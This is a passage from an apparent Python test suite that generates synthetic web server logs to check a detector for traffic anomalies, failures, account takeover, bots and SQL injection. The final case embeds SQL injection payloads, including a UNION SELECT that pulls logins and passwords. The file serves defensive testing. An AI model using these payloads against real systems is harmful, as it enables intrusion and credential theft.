        log.add(second, ATTACKER, "okhttp/4.12.0", "POST", log.rng.choice(writes), 409 if log.rng.random() < 0.3 else 200, size=900)
        second += log.rng.uniform(3, 25)
    return log, [expect("sequence_anomaly")]


@case("combined")
def sequence_anomaly():
    """A service whose callers all walk the same few paths, and one who walks it backwards and crosswise."""
    log = Log(133)
    usual = ["/v1/start", "/v1/catalog", "/v1/item", "/v1/basket", "/v1/address", "/v1/delivery", "/v1/payment", "/v1/confirm", "/v1/receipt"]
    for caller in range(740):
        second, ip = log.rng.uniform(0, 5.4 * 3600), f"198.51.{100 + caller // 250}.{caller % 250 + 1}"
        for _ in range(4):
            for step in usual:
                if log.rng.random() < 0.06:
                    continue
                log.add(second, ip, "okhttp/4.12.0", "GET", step, 200, size=900)
                second += log.rng.uniform(3, 25)
    second = 5.1 * 3600
    for number in range(60):
        log.add(second, ATTACKER, "okhttp/4.12.0", "GET", usual[-1 - number * 4 % 9], 200, size=900)
        second += log.rng.uniform(3, 25)
    return log, [expect("sequence_anomaly", level="LOW")]


@case("combined_time")
def latency_spike():
    log, _ = background(134, minutes=50, people=330)
    for row in log.rows:
        if row["path"].startswith("/products/") and 40 * 60 <= row["time"] - log.start < 48 * 60:
            row["millis"] = row["millis"] * 30 + 400
    return log, [{"type": "latency_spike", "actor": "/products/{id}", "endpoint": "/products/{id}", "min_level": "MEDIUM"}]


@case("w3c")
def error_spike():
    log, _ = background(135, minutes=45, people=200)
    fail(log, "/products/", 35, 42)
    return log, [{"type": "error_spike", "actor": "/products/{id}", "endpoint": "/products/{id}", "min_level": "MEDIUM"}]


@case("w3c")
def error_spike_on_quiet_route():
    """Four of five searches fail for twelve minutes; there are half a dozen searches a minute."""
    log, _ = background(139, minutes=50, people=190)
    fail(log, "/search", 35, 47)
    return log, [{"type": "error_spike", "actor": "/search", "endpoint": "/search", "min_level": "MEDIUM"}]


def fail(log, prefix, first, last):
    """Four of five requests to these paths fail between two minutes."""
    for row in log.rows:
        if row["path"].startswith(prefix) and first * 60 <= row["time"] - log.start < last * 60 and log.rng.random() < 0.8:
            row["status"] = 500


@case("combined")
def traffic_spike():
    """So many visitors at once that the service breaks down under them."""
    log, shop = background(136, minutes=55, people=110)
    shop.people(500, first=300, since=44, until=55, pages=(2, 6))
    for row in log.rows:
        if row["time"] - log.start > 45.5 * 60 and row["path"] not in ("/health",) and log.rng.random() < 0.35:
            row["status"] = 503
    return log, [{"type": "traffic_spike", "min_level": "MEDIUM"}], None, ["error_spike", "latency_spike"]


@case("combined")
def traffic_drop():
    log, _ = background(137, minutes=60, people=200)
    log.rows = [row for row in log.rows if row["time"] - log.start < 48 * 60 or log.rng.random() < 0.04]
    return log, [{"type": "traffic_drop", "min_level": "MEDIUM"}]


@case("combined_time")
def failure_predicted():
    """Product pages slow down over 25 minutes, more and more, some fail, then nearly all do."""
    log, _ = background(140, minutes=110, people=760)
    begin, end = 72 * 60, 97 * 60
    for row in log.rows:
        age = row["time"] - log.start - begin
        if row["path"].startswith("/products") and age >= 0:
            growth = min(age / (end - begin), 1)
            row["millis"] = int(row["millis"] * 20 ** growth)
            if log.rng.random() < (0.03 * growth if growth < 1 else 0.7):
                row["status"], row["size"], row["millis"] = 503, 167, 900
    return log, [{"type": "failure_predicted", "actor_kind": "endpoint", "min_level": "MEDIUM"}], None, ["error_spike", "latency_spike"]


@case("w3c")
def failure_predicted_by_errors():
    """One search in two hundred fails, then more in every minute for half an hour, then most: response times tell nothing."""
    log, _ = background(141, minutes=115, people=900)
    begin, end = 75 * 60, 105 * 60
    for row in log.rows:
        age = row["time"] - log.start - begin
        if row["path"].startswith(("/products", "/search")) and age >= 0 and log.rng.random() < (0.3 * (age / (end - begin)) ** 1.5 if age < end - begin else 0.8):
            row["status"], row["size"] = 500, 210
    return log, [{"type": "failure_predicted", "actor_kind": "endpoint", "min_level": "MEDIUM"}], None, ["error_spike", "latency_spike"]


def known_victim(log, shop):
    """Somebody who comes in at home, looks around, and is known from then on; and half of the others who change an address or a password from their account."""
    home, victim, own = "198.51.100.201", "mia.victor", browser(log.rng)
    shop.login(60, home, own, victim, failures=0)
    for number in range(14):
        shop.page(90 + 25 * number, home, own, f"/products/{log.rng.randint(1, 900)}", assets=2, user=victim)
    for number in range(160):
        ip, agent, user = honest_address(400 + number), browser(log.rng), person(400 + number)
        second, _ = shop.login(log.rng.uniform(0, shop.minutes * 55), ip, agent, user)
        for _ in range(log.rng.randint(1, 3)):
            second += 5 + log.rng.expovariate(1 / 15)
            shop.page(second, ip, agent, "/account/settings", assets=1, user=user)
            shop.request(second + 20, ip, agent, "POST", log.rng.choice(["/account/email", "/account/password"]), 200, user=user)
    return victim


@case("json")
def account_takeover_at_once():
    """With a password that was stolen elsewhere: from a new address and a new device, without a failure, and straight from the login to e-mail and password."""
    log, shop = background(163, minutes=180, people=240, names_people=True)
    victim, agent = known_victim(log, shop), "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/109.0"
    log.add(9000, ATTACKER, agent, "POST", "/login", 302, size=0, user=victim)
    log.add(9011, ATTACKER, agent, "POST", "/account/email", 200, user=victim)
    log.add(9034, ATTACKER, agent, "POST", "/account/password", 200, user=victim)
    log.add(9061, ATTACKER, agent, "POST", "/account/payment-methods", 201, user=victim)
    return log, [{"type": "account_takeover", "actor": victim, "min_level": "HIGH"}]


@case("combined")
def bot_distributed():
    """Thirty addresses that say they are browsers wait for the same three products: six requests each within four minutes, and never a picture."""
    log, _ = background(164, minutes=120, people=300)
    for number in range(30):
        agent, second = browser(log.rng), 5000 + log.rng.uniform(0, 60)
        for _ in range(6):
            log.add(second, f"203.0.113.{20 + number}", agent, "GET", f"/products/{log.rng.choice([311, 312, 640])}", 200)
            second += 2 + log.rng.expovariate(1 / 20)
    return log, [{"type": "bot", "actor_kind": "distributed", "min_members": 20, "endpoint": "/products/{id}", "min_level": "MEDIUM"}]


@case("combined")
def sql_injection_from_many_browsers():
    """Five addresses, each with another browser's name, try the same field with the same kind of attack within the hour."""
    log, _ = background(166, minutes=80, people=60)
    for number, ip in enumerate(["203.0.113.11", "203.0.113.52", "192.0.2.201", "192.0.2.77", "203.0.113.143"]):
        payloads(log, ["/search?q=" + quoted(text) for text in ("' OR 1=1 -- ", "1' UNION SELECT login, password FROM users -- ", "x'; WAITFOR DELAY '0:0:5' -- ")], 900 + 600 * number, agent=browser(log.rng), ip=ip)
    return log, [{"type": "sql_injection", "actor_kind": "distributed", "min_members": 5, "endpoint": "/search", "min_level": "MEDIUM"}]
